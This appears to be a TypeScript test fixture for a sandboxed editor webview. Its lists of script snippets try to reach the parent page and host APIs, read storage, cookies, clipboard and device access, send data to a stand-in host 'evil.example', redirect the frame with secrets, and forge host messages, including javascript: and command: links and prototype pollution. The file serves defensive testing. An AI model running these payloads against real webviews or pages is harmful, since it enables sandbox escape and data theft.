/** Code in a frame of the script's that tries to get out of it, or to call home. Each ends with `done(what it got)`. */

const evil = "https://evil.example";
const attempt = (code: string): string => `try { ${code} } catch (error) { done("refused " + error.name); }`;

/** Reaching the page, the editor or what others have stored. `done("got …")` would be a breach. */
export const reaching: readonly string[] = [
  attempt(`done("got " + parent.document.body.innerHTML)`),
  attempt(`done("got " + top.document.title)`),
  attempt(`parent.hurt = 1; done("got")`),
  attempt(`top.hurt = 1; done("got")`),
  attempt(`done("got " + parent.acquireVsCodeApi)`),
  attempt(`done(typeof acquireVsCodeApiOfTheHost === "undefined" ? "refused" : "got")`),
  attempt(`done("got " + localStorage.length)`),
  attempt(`done("got " + sessionStorage.length)`),
  attempt(`indexedDB.open("x").onsuccess = () => done("got"); setTimeout(() => done("refused"), 50)`),
  attempt(`document.cookie = "a=1"; done("got " + document.cookie)`),
  attempt(`caches.open("x").then(() => done("got"), () => done("refused"))`),
  attempt(`navigator.serviceWorker.register("x.js").then(() => done("got"), () => done("refused"))`),
  attempt(`done(window.open("${evil}") ? "got" : "refused")`),
  attempt(`top.location = "${evil}"; done("refused or going")`),
  attempt(`parent.location.href = "${evil}"; done("refused or going")`),
  attempt(`parent.history.back(); done("got")`),
  attempt(`alert(1); done("refused, silently")`),
  attempt(`eval("done('got')")`),
  attempt(`new Function("done('got')")()`),
  attempt(`setTimeout("done('got')"); setTimeout(() => done("refused"), 50)`),
  attempt(`frameElement ? done("got " + frameElement.outerHTML) : done("refused")`),
  attempt(`frameElement.sandbox = "allow-same-origin"; done("got")`),
  attempt(`document.domain = "127.0.0.1"; done("got")`),
  attempt(`navigator.clipboard.readText().then((text) => done("got " + text), () => done("refused"))`),
  attempt(`navigator.mediaDevices?.getUserMedia({ audio: true }).then(() => done("got"), () => done("refused")) ?? done("refused")`),
  attempt(`navigator.geolocation.getCurrentPosition(() => done("got"), () => done("refused"))`),
  attempt(`document.documentElement.requestFullscreen().then(() => done("got"), () => done("refused"))`),
];

/** Calling home. What counts is that no request leaves. */
export const calling: readonly string[] = [
  attempt(`fetch("${evil}/a").then(() => done("got"), () => done("refused"))`),
  attempt(`fetch("/").then(() => done("got"), () => done("refused"))`),
  attempt(`const x = new XMLHttpRequest(); x.open("GET", "${evil}/a"); x.onload = () => done("got"); x.onerror = () => done("refused"); x.send()`),
  attempt(`const w = new WebSocket("wss://evil.example"); w.onopen = () => done("got"); w.onerror = () => done("refused")`),
  attempt(`const s = new EventSource("${evil}/a"); s.onopen = () => done("got"); s.onerror = () => done("refused")`),
  attempt(`done(navigator.sendBeacon("${evil}/a", "x") ? "sent or refused later" : "refused")`),
  attempt(`const i = new Image(); i.onload = () => done("got"); i.onerror = () => done("refused"); i.src = "${evil}/a.png"`),
  attempt(`const s = document.createElement("script"); s.nonce = document.currentScript?.nonce ?? document.querySelector("script")?.nonce; s.src = "${evil}/a.js"; s.onload = () => done("got"); s.onerror = () => done("refused"); document.head.append(s)`),
  attempt(`import("${evil}/a.js").then(() => done("got"), () => done("refused"))`),
  attempt(`const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "${evil}/a.css"; l.onload = () => done("got"); l.onerror = () => done("refused"); document.head.append(l)`),
  attempt(`const l = document.createElement("link"); l.rel = "prefetch"; l.href = "${evil}/a"; document.head.append(l); setTimeout(() => done("refused"), 50)`),
  attempt(`document.body.style.background = "url(${evil}/a.png)"; setTimeout(() => done("refused"), 50)`),
  attempt(`new FontFace("x", "url(${evil}/a.woff)").load().then(() => done("got"), () => done("refused"))`),
  attempt(`const s = new CSSStyleSheet(); s.replaceSync("body { background: url(${evil}/a.png) }"); document.adoptedStyleSheets = [s]; setTimeout(() => done("refused"), 50)`),
  attempt(`const f = document.createElement("iframe"); f.src = "${evil}"; document.body.append(f); setTimeout(() => done("refused"), 50)`),
  attempt(`const f = document.createElement("iframe"); f.src = "data:text/html,<img src=${evil}/a.png>"; document.body.append(f); setTimeout(() => done("refused"), 50)`),
  attempt(`const f = document.createElement("form"); f.action = "${evil}"; document.body.append(f); f.submit(); setTimeout(() => done("refused"), 50)`),
  attempt(`const a = document.createElement("a"); a.href = "${evil}"; a.target = "_top"; document.body.append(a); HTMLElement.prototype.click.call(a); setTimeout(() => done("refused"), 50)`),
  attempt(`const o = document.createElement("object"); o.data = "${evil}/a"; document.body.append(o); setTimeout(() => done("refused"), 50)`),
  attempt(`const v = document.createElement("video"); v.src = "${evil}/a.mp4"; v.onerror = () => done("refused"); v.onloadeddata = () => done("got"); document.body.append(v)`),
  attempt(`new Worker(URL.createObjectURL(new Blob(["fetch('${evil}/a')"]))).onerror = () => done("refused"); setTimeout(() => done("refused"), 50)`),
];

/** Leaving: the frame itself goes elsewhere, and can no longer say so. */
export const leaving: readonly string[] = [
  `location.href = "${evil}/?secret"`,
  `location.replace("${evil}/?secret")`,
  `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0; url=${evil}">')`,
  `location.href = "data:text/html,<script>fetch('${evil}')</script>"`,
  `location.href = "javascript:fetch('${evil}')"`,
];

/** Speaking in another's name: none of these may reach the page as a message of its host, or as a value that makes no sense. */
export const speaking: readonly unknown[] = [
  { type: "snapshot", protocol: 1, app: { name: "x", file: "x" }, status: { state: "idle" }, tree: [], nextSeq: 1, effects: [], pending: [] },
  { type: "deltas", deltas: [{ op: "put", at: [0, 0], node: { type: "text", body: "forged" } }] },
  { type: "status", status: { state: "crashed", reason: "forged" } },
  { type: "link", url: "javascript:alert(1)" },
  { type: "link", url: "command:workbench.action.quit" },
  { type: "link", url: 5 },
  { type: "height", px: "1e9" },
  { type: "height", px: Number.NaN },
  { type: "height", px: -5 },
  { type: "state", name: "", value: 1 },
  { type: "state", name: "__proto__", value: { polluted: true } },
  { type: "state", name: "x".repeat(1000), value: 1 },
  { type: "state", value: 1 },
  { type: "trigger", name: 5, value: 1 },
  { type: "trigger", name: "x", value: "y".repeat(2_000_000) },
  { type: "nonsense" },
  "a text",
  null,
  [],
];
